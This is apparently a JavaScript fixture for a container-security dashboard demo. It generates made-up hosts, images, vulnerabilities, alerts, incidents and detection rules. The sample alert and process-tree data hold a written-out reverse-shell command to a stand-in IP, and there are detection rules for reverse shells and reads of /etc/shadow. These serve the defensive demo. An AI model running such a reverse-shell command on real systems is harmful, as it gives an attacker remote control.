// SPDX-License-Identifier: Apache-2.0
/* A made-up but plausible site, the same at every start but for the hour. */
let seed = 20260;
const random = () => {
	seed = (seed * 1103515245 + 12345) % 2147483648;
	return seed / 2147483648;
};
const pick = (list) => list[Math.floor(random() * list.length)];
const int = (a, b) => a + Math.floor(random() * (b - a + 1));
const hex = (n) => Array.from({ length: n }, () => "0123456789abcdef"[int(0, 15)]).join("");
const MIN = 60_000;
const HOUR = 60 * MIN;
const DAY = 24 * HOUR;
export const now = Date.now();

const SEVERITIES = ["critical", "high", "medium", "low", "info"];
const weigh = () => SEVERITIES[[0, 1, 1, 2, 2, 2, 2, 3, 3, 4][int(0, 9)]];

export const hosts = ["prod-node-1", "prod-node-2", "prod-node-3", "prod-node-4", "build-1", "dev-node-1", "edge-gz-1", "edge-sh-2"].map((name, i) => ({
	id: hex(32), name, os: pick(["Debian GNU/Linux", "Ubuntu", "openEuler", "Kylin Linux"]), os_version: pick(["12", "22.04", "24.03", "V10"]), kernel: pick(["6.1.0-18-amd64", "5.15.0-105-generic", "6.6.0-28"]),
	arch: pick(["x86_64", "x86_64", "aarch64"]), address: `10.20.${int(0, 4)}.${int(2, 250)}`, cpus: pick([4, 8, 16, 64]), memory_bytes: pick([8, 16, 64, 256]) * 2 ** 30, boot_ms: now - int(1, 90) * DAY,
	environment: i < 4 ? "prod" : i === 4 ? "" : "dev", labels: {}, first_ms: now - int(30, 200) * DAY, seen_ms: i === 6 ? now - 5 * HOUR : now - int(2, 50) * 1000, gone_ms: null, risk: Math.round(random() * 900) / 10,
	n_findings: int(20, 400), n_alerts: int(0, 9), n_containers: int(2, 30),
}));

const NAMES = ["shop/frontend", "shop/cart", "shop/payments", "platform/ingress", "platform/auth", "data/ingest", "data/warehouse", "ml/scoring", "nginx", "redis", "postgres", "library/debian", "internal/base-java", "internal/base-python", "crm/portal", "crm/worker", "ops/backup", "video/transcoder", "iot/gateway", "docs/site"];
export const images = NAMES.flatMap((repo) => Array.from({ length: int(1, 4) }, (_, v) => {
	const critical = int(0, 4);
	const high = int(0, 30);
	const n = critical + high + int(10, 120);
	return {
		id: `sha256:${hex(64)}`, name: `registry.example:5000/${repo}:${int(1, 4)}.${v}.${int(0, 20)}`, os: "linux", arch: pick(["amd64", "arm64"]), distro: pick(["debian 12", "alpine 3.20", "ubuntu 22.04", "openeuler 24.03", "rhel 9"]),
		end_of_life: random() < 0.1, user_name: pick(["", "root", "app", "1000"]), created_ms: now - int(1, 300) * DAY, bytes: int(20, 900) * 2 ** 20, n_layers: int(3, 14),
		base_name: pick(["debian:12", "internal/base-java:17", "alpine:3.20", ""]), base_layers: int(1, 4), is_base: repo.includes("base") || repo === "library/debian", first_ms: now - int(1, 200) * DAY,
		scanned_ms: now - int(1, 30) * HOUR, matched_ms: now - int(1, 8) * HOUR, risk: Math.round((critical ? 60 + random() * 39 : random() * 60) * 10) / 10, n_packages: int(40, 700), n_critical: critical, n_high: high,
		n_medium: int(5, 40), n_low: int(5, 40), n_findings: n, n_fixable: int(0, n), n_containers: int(0, 6), environment: pick(["prod", "dev", ""]), ports: pick(["8080/tcp", "443/tcp", ""]),
	};
}));

export const containers = Array.from({ length: 64 }, (_, i) => {
	const image = pick(images);
	const host = pick(hosts);
	const short = image.name.split("/").pop().split(":")[0];
	return {
		id: hex(64), host_id: host.id, host_name: host.name, host: host.name, name: `${short}-${int(1, 9)}`, image_id: image.id, image_ref: image.name, image: image.name, runtime: pick(["docker", "containerd", "podman"]),
		state: pick(["running", "running", "running", "running", "paused", "exited"]), pod: pick(["", `${short}-7d9f-${hex(5)}`]), namespace: pick(["", "shop", "crm", "kube-system"]), workload: pick(["", short]),
		privileged: random() < 0.08, root: random() < 0.5, host_net: random() < 0.1, host_pid: random() < 0.04, host_mounts: pick(["", "", "", "/var/run/docker.sock", "/etc"]), caps: pick(["", "", "NET_ADMIN", "SYS_ADMIN,SYS_PTRACE"]),
		exposed: pick(["", "", "0.0.0.0:80->8080/tcp", "0.0.0.0:443->8443/tcp"]), listening: pick(["", "8080/tcp", "5432/tcp", "6379/tcp"]), n_alerts: i % 11 === 0 ? int(1, 6) : 0, risk: Math.round(random() * 980) / 10,
		created_ms: now - int(1, 60) * DAY, started_ms: now - int(1, 60) * HOUR, first_ms: now - int(1, 60) * DAY, seen_ms: now - int(1, 60) * 1000, gone_ms: null, detail: {},
	};
});

const PACKAGES = ["openssl", "libssl3", "zlib1g", "curl", "libcurl4", "glibc", "libc6", "perl-base", "bash", "log4j-core", "spring-web", "jackson-databind", "lodash", "express", "requests", "urllib3", "django", "golang.org/x/net", "libexpat1", "libxml2", "sqlite3", "tar", "gnutls28", "systemd", "krb5", "busybox"];
export const packages = PACKAGES.map((name, i) => ({
	id: i + 1, eco: pick(["deb", "apk", "rpm", "maven", "npm", "pypi", "go"]), name, version: `${int(0, 9)}.${int(0, 20)}.${int(0, 30)}${pick(["", "-1+deb12u3", "-r2"])}`, arch: "amd64", source: name, space: "debian:12",
	licence: pick(["Apache-2.0", "MIT", "GPL-2.0-only", "BSD-3-Clause", "Zlib"]), purl: `pkg:deb/debian/${name}`, n_images: int(1, 30), n_hosts: int(0, 8), n_findings: int(0, 14), n_vulns: int(0, 14), in_use: random() < 0.4, risk: Math.round(random() * 950) / 10,
}));

const TITLES = ["Out-of-bounds write in the decoder of a compressed header", "Remote code execution through message lookups", "Use after free when a connection is closed early", "Path traversal in archive extraction", "Denial of service by a quadratic regular expression", "Authentication bypass with an empty token", "Integer overflow in length calculation", "Request smuggling by conflicting lengths"];
export const vulns = Array.from({ length: 180 }, (_, i) => {
	const severity = i < 6 ? "critical" : weigh();
	const kev = i < 5;
	return {
		id: `CVE-${int(2021, 2026)}-${int(1000, 52000)}`, title: pick(TITLES), severity, cvss: { critical: 9.8, high: 8.1, medium: 5.9, low: 3.3, info: 0 }[severity], vector: "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
		epss: Math.round(random() ** 4 * 1000) / 1000, kev, kev_ms: kev ? now - int(3, 400) * DAY : 0, exploit: kev ? "in-the-wild" : pick(["none-known", "none-known", "poc", "exploit", "weaponised"]), ssvc: kev ? "active/yes/total" : "none/no/partial",
		published_ms: now - int(5, 900) * DAY, modified_ms: now - int(1, 100) * DAY, first_ms: now - int(1, 60) * DAY, n_images: int(1, 24), n_containers: int(0, 30), n_hosts: int(0, 8), n_findings: int(1, 40),
		risk: Math.round((kev ? 70 + random() * 29 : random() * 70) * 10) / 10, due: kev ? "3 days" : pick(["next upgrade", "60 days", "14 days", "next upgrade"]), due_days: kev ? 3 : 60,
		detail: { aliases: [`GHSA-${hex(4)}-${hex(4)}-${hex(4)}`], cwes: ["CWE-787"], references: ["https://nvd.example/1"] },
	};
});

const factor = (name, value, words, low = value, high = value) => ({ name, value, words, low, high, known: low === high });
export const findings = Array.from({ length: 900 }, (_, i) => {
	const v = pick(vulns);
	const image = pick(images);
	const p = pick(packages);
	const kind = i % 14 === 0 ? pick(["secret", "malware", "config", "webshell", "integrity", "licence"]) : "vulnerability";
	const is = kind === "vulnerability";
	const side = pick(["base", "base", "application", "unknown"]);
	const risk = is ? Math.max(0.2, Math.round(v.risk * (0.3 + random() * 0.7) * 10) / 10) : int(5, 80);
	return {
		id: i + 1, subject: image.id, image_id: image.id, image: image.name, kind, package_id: is ? p.id : null, package: is ? p.name : "", version: is ? p.version : "", eco: is ? p.eco : "", vulnerability: is ? v.id : "", type: is ? p.eco : "", fixable: is, running: random() < 0.4, rule: is ? "" : "private-key",
		title: is ? v.title : "A private key in a layer", path: is ? "/usr/lib/x86_64-linux-gnu/libssl.so.3" : "/root/.ssh/id_ed25519", line: 0, evidence: "", severity: is ? v.severity : "high", fix: is && random() < 0.7 ? `${p.version}+fix` : "",
		mend: is ? `Upgrade ${p.name}` : "Remove the file and change the key", layer: int(0, 8), side, owner: side === "base" ? "operations" : "developers", risk, risk_low: Math.max(0, risk - int(0, 12)), risk_high: Math.min(100, risk + int(0, 18)),
		factors: [factor("threat", 0.92, "CISA lists it as used against real systems; EPSS 0.84"), factor("complexity", 1, "low"), factor("privileges", 1, "none needed"), factor("interaction", 1, "none needed"), factor("vector", 1, "over the network"), factor("exposure", 0.75, "the container publishes 0.0.0.0:80->8080/tcp"),
			factor("use", 0.8, "libssl.so.3 is mapped by nginx"), factor("conditions", 0.9, "not known", 0.1, 1), factor("impact", 1, "all is lost: confidentiality, integrity, availability"), factor("power", 0.8, "runs as root"), factor("vendor", 0.95, "Debian says high")],
		state: pick(["open", "open", "open", "open", "accepted", "not-affected", "fixed"]), state_why: "", state_by: "", state_until_ms: null, due: is ? v.due : "", kev: is ? v.kev : false, epss: is ? v.epss : 0, exploit: is ? v.exploit : "", in_use: random() < 0.3, first_ms: now - int(1, 40) * DAY,
		seen_ms: now - int(1, 10) * HOUR, fixed_ms: null, container_id: "",
	};
});

const RULES = [["Reverse shell", "Critical", ["mitre_execution", "T1059"]], ["Shell in a container", "Notice", ["mitre_execution", "T1059.004"]], ["Drift: a new program runs", "Critical", ["mitre_persistence", "T1554"]], ["Container escape by release_agent", "Emergency", ["mitre_privilege_escalation", "T1611"]],
	["Sensitive file read", "Warning", ["mitre_credential_access", "T1552.001"]], ["Miner pool contacted", "Critical", ["mitre_impact", "T1496"]], ["Cron changed", "Warning", ["mitre_persistence", "T1053.003"]], ["Log cleared", "Error", ["mitre_defense_evasion", "T1070.002"]], ["Scan of the network", "Notice", ["mitre_discovery", "T1046"]], ["Kernel module loaded", "Critical", ["mitre_persistence", "T1547.006"]]];
const LEVELS = ["Emergency", "Alert", "Critical", "Error", "Warning", "Notice", "Informational", "Debug"];
const lineage = (name) => [{ pid: 1, exe: "/sbin/init", cmdline: "/sbin/init" }, { pid: 812, exe: "/usr/bin/containerd-shim", cmdline: "containerd-shim -id 0a1b" }, { pid: 2210, exe: "/usr/sbin/nginx", cmdline: "nginx: worker process" }, { pid: 2311, exe: "/bin/sh", cmdline: name === "Reverse shell" ? "sh -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'" : "sh -c id" }];

let alertId = 0;
export function makeAlert(at, incident) {
	const [rule, word, tags] = pick(RULES);
	const c = pick(containers);
	return {
		id: ++alertId, at_ms: at, taken_ms: at + int(20, 400), agent_id: c.host_id.slice(0, 12), host_id: c.host_id, host: c.host_name, host_name: c.host_name, container_id: c.id, container: c.name, container_name: c.name, image_id: c.image_id, image: c.image_ref, incident_id: incident ?? int(1, 18),
		rule, level: LEVELS.indexOf(word), priority: word, level_number: LEVELS.indexOf(word), source: "syscall", output: `${rule} (user=root cmd=sh -c id container=${c.name} image=${c.image_ref})`, tags,
		fields: { "proc.name": "sh", "proc.pname": "nginx", "user.name": "root", "evt.type": "execve", "container.name": c.name, "fd.name": "10.0.0.4:51000->203.0.113.9:4444" }, process: { pid: 2311, exe: "/bin/sh", cmdline: "sh -c id", lineage: lineage(rule) }, suppressed: false, intel: rule === "Miner pool contacted" ? "feed: 203.0.113.9" : "",
	};
}
export const alerts = Array.from({ length: 320 }, (_, i) => makeAlert(now - i * int(2, 14) * MIN));

export const incidents = Array.from({ length: 18 }, (_, i) => {
	const mine = alerts.filter((a) => a.incident_id === i + 1);
	const worst = [...mine].sort((a, b) => a.level_number - b.level_number)[0] ?? alerts[0];
	return {
		id: i + 1, title: worst.rule, level: worst.level, priority: worst.priority, level_number: worst.level_number, host_id: worst.host_id, host: worst.host, host_name: worst.host, container_id: worst.container_id, container: worst.container, container_name: worst.container, image_id: worst.image_id, image: worst.image, lineage: "",
		first_ms: Math.min(...mine.map((a) => a.at_ms), now), last_ms: Math.max(...mine.map((a) => a.at_ms), now - 9 * DAY), n_alerts: mine.length, status: i < 7 ? "open" : pick(["working", "closed", "false-alarm"]), assignee: i % 3 ? "" : "li.wei", tactics: [worst.tags[0]], techniques: [worst.tags[1]], rule: worst.rule, updated_ms: now - int(1, 60) * MIN, closed_ms: null,
	};
});

const days = Array.from({ length: 30 }, (_, i) => now - (29 - i) * DAY);
const trend = (name, make) => ({ name, points: days.map((day_ms, i) => ({ day_ms, value: Math.round(make(i)) })) });
export const overview = {
	time_ms: now,
	counts: { findings: 891, critical: 14, high: 131, medium: 428, low: 318, exploited: 5, fixable: 377, subjects: 52, hosts: 8, containers: 64, images: images.length, images_running: 31, vulnerabilities: 180, incidents_open: 7, incidents_grave: 3 },
	health: { score: 62.8, parts: [["incidents", 25, 0.44], ["exploited", 20, 0.5], ["risk", 15, 0.42], ["overdue", 10, 0.31], ["privileged", 8, 0.2], ["root", 6, 0.5], ["intruders", 8, 0.1], ["coverage", 8, 0.13]].map(([name, weight, exposure]) => ({ name, weight, exposure, lost: weight * exposure, words: `${name}: how it is counted` })) },
	advisories: { present: true, date_ms: now - DAY, vulnerabilities: 271_204, root: "9f0c", why: "" },
	blind_spots: [{ kind: "agents-away", count: 1, words: "1 agents are away", link: "/system?tab=agents&f.state=away" }, { kind: "containers-unscanned", count: 3, words: "", link: "/containers" }, { kind: "end-of-life", count: 2, words: "", link: "/images?f.end_of_life=true" }],
	trends: [trend("findings.severity.5", (i) => 22 - i * 0.3 + random() * 3), trend("findings.severity.4", (i) => 160 - i + random() * 12), trend("findings.severity.3", () => 420 + random() * 20), trend("findings.severity.2", () => 300 + random() * 30), trend("alerts.level.2", () => int(0, 9)), trend("alerts.level.4", () => int(2, 40)), trend("health", (i) => 52 + i * 0.4)],
	steps: [{ kind: "incident", text: "Container escape by release_agent in worker-2 on edge-sh-2", risk: 98, link: "/incidents/1" }, { kind: "base", text: "Rebuild 9 images on debian:12.7: mends 214 findings, 4 of them used in attacks", risk: 91, owner: "operations", link: "/worklists/operations" }, { kind: "application", text: "Upgrade log4j-core to 2.17.1 in crm/portal", risk: 84, owner: "developers", link: "/worklists/developers" }, { kind: "container", text: "payments-8 is privileged and has an exploited vulnerability", risk: 77, link: "/containers" }, { kind: "coverage", text: "edge-gz-1 has not called for five hours", risk: 0, link: "/system?tab=agents" }],
};

const thing = (kind, name, attrs) => {
	const c = pick(containers);
	return { kind, name, key: `${kind}/${name}/${hex(4)}`, host_id: c.host_id, host: c.host, container_id: random() < 0.4 ? c.id : "", container: random() < 0.4 ? c.name : "", attrs, first_ms: now - int(1, 60) * DAY, seen_ms: now - int(1, 90) * 1000, gone_ms: null, gone: false };
};
const many = (n, make) => Array.from({ length: n }, (_, i) => make(i));
export const assets = [
	...many(60, () => thing("port", pick(["nginx", "sshd", "postgres", "redis-server", "java"]), { protocol: "tcp", address: pick(["0.0.0.0", "127.0.0.1", "::"]), port: pick([22, 80, 443, 5432, 6379, 8080]), exe: "/usr/sbin/nginx", host_network: random() < 0.3 })),
	...many(90, () => thing("process", pick(["nginx", "java", "python3", "postgres", "bash"]), { pid: int(2, 60000), uid: pick([0, 33, 1000]), exe: "/usr/bin/java", cmdline: "java -jar /srv/app.jar --port 8080", started_ms: now - int(1, 90) * HOUR })),
	...many(40, () => thing("user", pick(["root", "daemon", "www-data", "deploy", "li.wei"]), { uid: int(0, 2000), may_log_in: random() < 0.3, password: pick(["set", "none", "locked"]), password_hash: pick(["yescrypt", "sha512", ""]), shell: pick(["/bin/bash", "/usr/sbin/nologin"]), password_changed_ms: now - int(1, 900) * DAY })),
	...many(12, () => thing("certificate", pick(["api.example", "*.shop.example", "kube-apiserver"]), { issuer: "Example CA", self_signed: random() < 0.3, not_after_ms: now + int(-10, 400) * DAY, file: "/etc/ssl/certs/server.pem" })),
	...many(14, () => thing("cron", pick(["backup.sh", "logrotate", "apt-daily.timer"]), { type: pick(["cron", "timer", "run-parts"]), when: "17 * * * *", user: "root", file: "/etc/crontab" })),
	...many(9, () => thing("database", pick(["postgres", "redis", "mysql"]), { pid: int(2, 9000), exe: "/usr/lib/postgresql/15/bin/postgres", directory: "/var/lib/postgresql" })),
	...many(8, () => thing("site", pick(["shop.example", "crm.example"]), { server: "nginx", names: ["shop.example", "www.shop.example"], listen: "443 ssl", root: "/srv/www", proxy: "" })),
].map((a, i) => ({ id: i + 1, ...a }));
export const changes = many(140, (i) => {
	const a = pick(assets);
	const op = pick(["new", "changed", "gone"]);
	return { id: i + 1, at_ms: now - i * int(5, 40) * MIN, op, kind: a.kind, name: a.name, asset_id: a.id, host_id: a.host_id, host: a.host, container_id: a.container_id, container: a.container, before: op === "new" ? null : a.attrs, after: op === "gone" ? null : { ...a.attrs, ...(op === "changed" ? { port: 8081, pid: 4711 } : {}) } };
});
export const timelineOf = (incident) => {
	const mine = alerts.filter((a) => a.incident_id === incident.id).slice(0, 20).reverse();
	return {
		incident,
		items: [...mine.map((a) => ({ ...a, kind: "alert" })), { at_ms: now - 20 * MIN, kind: "note", id: 1, who: "li.wei", text: "Looked at the shell history; isolating the container." }, { at_ms: now - 18 * MIN, kind: "response", id: 1, action: "isolate", dry_run: false, state: "done", text: "two programs hang at its control group", why: "incident", asked_by: "li.wei" }, { at_ms: now - 15 * MIN, kind: "change", id: 1, asset_id: 3, op: "new", name: "tcp/0.0.0.0:4444" }],
		tree: [{ id: 0, parent: null, pid: 812, exe: "/usr/bin/containerd-shim", cmdline: "containerd-shim -id 0a1b", alerts: [] }, { id: 1, parent: 0, pid: 2210, exe: "/usr/sbin/nginx", cmdline: "nginx: worker process", alerts: [] }, { id: 2, parent: 1, pid: 2311, exe: "/bin/sh", cmdline: "sh -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", alerts: [1, 2] }, { id: 3, parent: 2, pid: 2312, exe: "/bin/bash", cmdline: "bash -i", alerts: [3] }, { id: 4, parent: 3, pid: 2320, exe: "/usr/bin/id", cmdline: "id", alerts: [] }],
		left_out: { alert: 3 },
	};
};
const TACTICS = [["TA0001", "Initial Access"], ["TA0002", "Execution"], ["TA0003", "Persistence"], ["TA0004", "Privilege Escalation"], ["TA0005", "Defense Evasion"], ["TA0006", "Credential Access"], ["TA0007", "Discovery"], ["TA0008", "Lateral Movement"], ["TA0009", "Collection"], ["TA0011", "Command and Control"], ["TA0010", "Exfiltration"], ["TA0040", "Impact"]];
export const attack = { from_ms: now - 7 * DAY, to_ms: now, total: 320, unplaced: 4, tactics: TACTICS.map(([id, name], i) => ({ id, name, count: i % 3 === 0 ? 0 : 30 + i, techniques: i % 3 === 0 ? [] : many(1 + (i % 3), (n) => ({ id: `T10${i}${n}`, name: pick(["Unix Shell", "Scheduled Task", "Escape to Host", "Credentials in Files", "Resource Hijacking"]), count: 4 + i * n, level: 2 + n, last_ms: now, rules: [{ rule: RULES[i % RULES.length][0], count: 4 }] })) })) };
export const suppressions = many(6, (i) => ({ id: i + 1, condition: i === 2 ? 'proc.name = "backup"' : "", rule: RULES[i][0], image: "", container: i % 2 ? "backup-*" : "", namespace: "", reason: "The nightly backup does this", owner: "li.wei", made_by: "li.wei", made_ms: now - i * 9 * DAY, until_ms: now + (30 - i * 9) * DAY, ended_ms: i > 3 ? now - DAY : null, active: i <= 3, n_hidden: int(1, 90) }));
export const responses = many(9, (i) => ({ id: i + 1, action: pick(["isolate", "pause", "evidence", "kill-process"]), host_id: hosts[1].id, host: hosts[1].name, container_id: containers[i].id, container: containers[i].name, pid: null, path: "", dry_run: i % 3 === 0, minutes: 30, why: "incident 1", incident_id: 1, undoes: null, state: pick(["done", "failed", "sent", "undone"]), asked_by: "li.wei", asked_ms: now - i * HOUR, text: "two programs hang at its control group", undone_ms: null }));

export const layersOf = (image) => many(image.n_layers, (position) => ({ position, diff_id: `sha256:${hex(64)}`, digest: "", side: position < image.base_layers ? "base" : "application", owner: position < image.base_layers ? "operations" : "developers", instruction: position === 0 ? "ADD rootfs.tar.xz / # debian bookworm" : pick(["RUN apt-get update && apt-get install -y --no-install-recommends ca-certificates curl", "COPY target/app.jar /srv/app.jar", "RUN pip install -r requirements.txt", "WORKDIR /srv"]), bytes: int(1, 90) * 2 ** 20, n_packages: int(0, 120), n_images: int(1, 9) }));
export const imageOf = (image) => ({
	...image, user: image.user_name, scanned_by: "prod-node-1", refs: [{ ref: image.name, registry: "registry.example:5000", seen_ms: now - HOUR, gone_ms: null }, { ref: image.name.replace(/:[^:]*$/, ":latest"), registry: "registry.example:5000", seen_ms: now - 2 * DAY, gone_ms: now - DAY }],
	advice: [{ text: "Rebuild on debian:12.7", owner: "operations", mends: 31 }, { text: "Upgrade log4j-core to 2.17.1", owner: "developers", mends: 4 }, { text: "Remove the private key in layer 4 and replace it", owner: "developers", mends: 1 }],
	containers: containers.filter((c) => c.image_id === image.id).map((c) => ({ id: c.id, name: c.name, host_id: c.host_id, host: c.host, state: c.state })),
	by_side: ["base", "application"].flatMap((side) => SEVERITIES.slice(0, 4).map((severity) => ({ side, severity, count: int(0, 30) }))), by_kind: [{ kind: "vulnerability", count: 88, risk: 90 }, { kind: "secret", count: 2, risk: 60 }, { kind: "config", count: 5, risk: 12 }, { kind: "licence", count: 7, risk: 3 }],
});

export const registries = ["base", "test", "production"].map((stage, i) => ({ id: i + 1, name: `${stage}-hub`, address: `registry-${stage}.example:5000`, stage, environment: i === 2 ? "prod" : "dev", username: "scanner", ca_pem: "", plain_http: false, repositories: "", every_minutes: 60, policy: "", state: i === 1 ? "failed" : "ok", why: i === 1 ? "the certificate has ended" : "", looked_ms: now - int(1, 50) * MIN, next_ms: now + HOUR, n_repositories: int(4, 40), n_tags: int(40, 400) }));
export const promotions = many(12, (i) => ({ id: i + 1, from: "test-hub", to: "production-hub", repository: pick(NAMES), tag: `1.${i}.0`, digest: `sha256:${hex(64)}`, image_id: images[i].id, allowed: i % 3 !== 0, reasons: i % 3 === 0 ? ["CVE-2024-19014 is used in attacks and has a fix", "a private key in layer 4"] : [], why: "release", who: "li.wei", at_ms: now - i * 7 * HOUR, seen_ms: i % 3 ? now - i * 6 * HOUR : 0 }));
export const scans = many(30, (i) => ({ id: i + 1, kind: pick(["image", "image", "catalogue", "match"]), target: `registry:registry.example:5000/${pick(NAMES)}:1.${i}`, image_id: images[i].id, state: pick(["done", "done", "done", "running", "queued", "failed"]), reason: "", asked_by: "by the clock", asked_ms: now - i * 20 * MIN, started_ms: now - i * 20 * MIN + 4000, ended_ms: now - i * 20 * MIN + 19000, tries: 1 }));
export const rules = RULES.map(([name, priority, tags], i) => ({ rule: name, description: `Finds what is meant by “${name}”: the sentence a person reads first.`, priority, level: LEVELS.indexOf(priority), enabled: i !== 8, source: "syscall", tags, file: "content/rules/shell.yaml", condition: "spawned_process and container and proc.name in (shell_binaries)", output: "Shell (user=%user.name cmd=%proc.cmdline)", n_alerts: int(0, 60) }));
export const policies = ["own-rules.yaml", "allow.yaml", "responses.yaml"].map((name, i) => ({ id: i + 1, name, kind: ["rules", "allow", "responses"][i], enabled: true, description: "", version: 3 + i, changed_ms: now - i * DAY, changed_by: "li.wei", text: "- rule: Backup touches shadow\n  desc: Somebody else than the backup reads it\n  condition: open_read and fd.name = /etc/shadow and not proc.name = backup\n  output: shadow read (cmd=%proc.cmdline)\n  priority: WARNING\n" }));
export const versions = [{ version: 4, made_ms: now - DAY, made_by: "li.wei", why: "the backup moved", text: policies[0].text }, { version: 3, made_ms: now - 9 * DAY, made_by: "li.wei", why: "first", text: "" }];
export const schedules = [["Monday morning", "findings", "team", "1", "week"], ["What an auditor wants", "inspection", "all", "", "month"]].map(([name, kind, scope, scope_id, every], i) => ({ id: i + 1, name, enabled: true, kind, scope, scope_id, scope_name: scope_id && "shop", format: "html", lang: "en", every, day: i ? 31 : 1, hour: 8, minute: 0, utc_offset: 480, integration_id: i ? 0 : 4, integration: i ? null : "mail", recipients: i ? "" : "lead@example.org", asked: false, next_ms: now + (i + 2) * 86_400_000, last_ms: now - DAY, last_report_id: i + 1, last_mail: i ? "" : "sent", last_mail_error: "", last_error: "", last_error_ms: null }));
export const reports = schedules.map((s) => ({ id: s.id, schedule_id: s.id, name: s.name, kind: s.kind, scope: s.scope, scope_id: s.scope_id, scope_name: s.scope_name, format: s.format, lang: s.lang, bytes: int(20_000, 900_000), sha256: `sha256:${"9f".repeat(32)}`, made_ms: s.last_ms, asked_by: "", mail: s.last_mail, recipients: s.recipients, tries: 1, sent_ms: s.last_ms, mail_said: "mail.example:587 took it for 1 recipients", mail_error: "" }));
export const integrations = [["soc-syslog", "syslog"], ["team-chat", "webhook"], ["search", "elasticsearch"]].map(([name, kind], i) => ({ id: i + 1, name, kind, enabled: i !== 1, config: { host: "siem.example", port: 6514, transport: "tls" }, has_secrets: i > 0, least_level: 4, condition: "", alerts: true, findings: 0, n_sent: int(20, 9000), n_waiting: i, n_refused: 0, n_dropped: 0, n_failures: i, last_sent_ms: now - int(1, 90) * MIN, last_error: i === 2 ? "connection refused" : "", last_error_ms: i === 2 ? now - HOUR : null }));
export const kinds = [{ kind: "syslog", help: "RFC 5424 over UDP, TCP or TLS", settings: [{ name: "host", type: "text", required: true, secret: false, help: "name or address" }, { name: "port", type: "integer", required: false, secret: false, least: 1, most: 65535, default: "514", help: "its port" }, { name: "transport", type: "text", required: false, secret: false, words: ["udp", "tcp", "tls"], default: "udp", help: "how to get there" }] }, { kind: "webhook", help: "POST of JSON, signed", settings: [{ name: "url", type: "text", required: true, secret: false, help: "https://..." }, { name: "key", type: "text", required: false, secret: true, help: "signs what is sent" }, { name: "verify", type: "boolean", required: false, secret: false, default: "true", help: "the server's certificate" }] }];
export const sources = [{ id: 1, name: "feodo", format: "csv", url: "https://feeds.example/ipblocklist.csv", enabled: true, every_minutes: 60, expire_days: 30, n_indicators: 1204, n_refused: 2, fetched_ms: now - 40 * MIN, error: "" }, { id: 2, name: "own", format: "plain", url: "", enabled: true, n_indicators: 12, fetched_ms: now - 9 * DAY, error: "" }];
export const indicators = many(60, (i) => ({ id: i + 1, source: "feodo", kind: pick(["ip", "domain", "sha256"]), value: `203.0.113.${i}`, comment: "c2", n_hits: i % 9 ? 0 : 3, until_ms: now + 20 * DAY, first_ms: now - 9 * DAY }));
export const users = [["admin", "administrator"], ["li.wei", "security"], ["zhang.min", "operations"], ["dev-1", "developer"], ["audit", "auditor"]].map(([name, role], i) => ({ id: i + 1, name, full_name: ["", "Li Wei", "Zhang Min", "", ""][i], email: `${name}@example.org`, role, scoped: role === "developer", totp: i < 2, local: true, oidc: false, must_change: false, disabled: i === 4, created_ms: now - i * 20 * DAY, seen_ms: now - i * HOUR }));
export const teams = [{ id: 1, name: "shop", about: "The shop and what belongs to it", n_members: 2, n_patterns: 2, n_images: 9, created_ms: now - 40 * DAY, members: [{ id: 4, name: "dev-1", role: "developer" }], owns: [{ kind: "image", pattern: "shop/*" }, { kind: "namespace", pattern: "shop" }] }];
export const tokens = [{ id: 1, person: "admin", name: "ci", scope: "read,scan", created_ms: now - 9 * DAY, expires_ms: now + 80 * DAY, used_ms: now - 3 * HOUR, used_address: "10.0.0.9" }];
export const audit = many(80, (i) => ({ id: 80 - i, at_ms: now - i * 37 * MIN, person: pick(["admin", "li.wei"]), by_token: i % 9 === 0, address: "10.0.0.7", action: pick(["incident.change", "response.ask", "user.make", "session.begin", "policy.change"]), object: `incident ${i}`, before: '{"status":"open"}', after: '{"status":"working"}' }));
export const agents = hosts.map((h, i) => ({ id: h.id.slice(0, 12), host_id: h.id, host: h.name, name: h.name, version: "0.1.0", address: h.address, state: i === 6 ? "away" : "here", enrolled_ms: h.first_ms, seen_ms: h.seen_ms, away_ms: i === 6 ? now - 5 * HOUR : null, certificate_until_ms: now + 60 * DAY, skew_ms: int(-40, 900), sensor: i === 5 ? "" : "ebpf", rules: 118, policy_version: 4, cpu_ms: int(1000, 900000), rss_bytes: int(14, 30) * 2 ** 20, spool_items: i === 6 ? 0 : int(0, 20), spool_bytes: int(0, 90000), stored: int(1000, 90000), dropped: i === 2 ? 12 : 0, refused: 0, lost: i === 2 ? 1204 : 0, status: { gaps: i === 5 ? ["no BTF: the sensor cannot load"] : [] }, notes: [{ at_ms: now - DAY, kind: "renewed", text: "a new certificate" }] }));
export const enrolments = [{ id: 1, name: "new racks", environment: "prod", made_by: "admin", made_ms: now - HOUR, until_ms: now + 23 * HOUR, uses: 2, max_uses: 10, revoked_ms: null }];
export const retention = { items: [["alerts", 90, 2000000], ["incidents", 365, 0], ["asset_changes", 30, 2000000], ["fixed_findings", 90, 1000000], ["audit", 730, 0]].map(([name, keep_days, keep_rows]) => ({ name, about: name, keep_days, keep_rows, floor_days: 1, deleted: int(0, 90000), last_deleted: 12, last_ms: now - DAY })) };
export const storage = { bytes: 812 * 2 ** 20, log_bytes: 3 * 2 ** 20, disk_bytes: 200 * 2 ** 30, disk_free_bytes: 90 * 2 ** 30, spare_percent: 4, rows: { alert: 320_112, finding: 90_112, asset: 12_000 }, retention: { ran_ms: now - HOUR, deleted: 120, longest_us: 900, error: "" }, check: { checked_ms: now - 9 * HOUR, sound: true, broken: "" }, at_ms: now };
export const sessions = [{ id: 1, created_ms: now - DAY, seen_ms: now - MIN, expires_ms: now + DAY, address: "10.0.0.7", program: "Firefox on Linux" }];

export function impactOf(id) {
	const some = images.slice(0, 7);
	const boxes = containers.filter((c) => some.some((i) => i.id === c.image_id)).slice(0, 12);
	const on = hosts.filter((h) => boxes.some((c) => c.host_id === h.id));
	const own = packages.slice(0, 3);
	return {
		id, counts: { images: 19, containers: 31, hosts: on.length },
		nodes: [{ id: "v", kind: "vulnerability", ref: id, name: id, risk: 91 }, ...own.map((p) => ({ id: `p${p.id}`, kind: "package", ref: String(p.id), name: `${p.name} ${p.version}`, risk: p.risk })), ...some.map((i) => ({ id: i.id, kind: "image", ref: i.id, name: i.name, risk: i.risk })),
			...boxes.map((c) => ({ id: c.id, kind: "container", ref: c.id, name: c.name, risk: c.risk })), ...on.map((h) => ({ id: h.id, kind: "host", ref: h.id, name: h.name, risk: h.risk }))],
